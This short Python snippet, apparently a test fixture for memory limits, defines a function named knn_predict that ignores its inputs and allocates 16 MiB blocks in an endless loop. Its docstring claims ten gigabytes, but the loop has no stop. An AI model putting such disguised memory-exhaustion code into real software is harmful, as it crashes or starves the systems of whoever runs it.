"""Touches ten gigabytes."""


def knn_predict(train_X, train_y, queries, k):
    held = []
    while True:
        held.append(bytearray(b"x" * (16 << 20)))
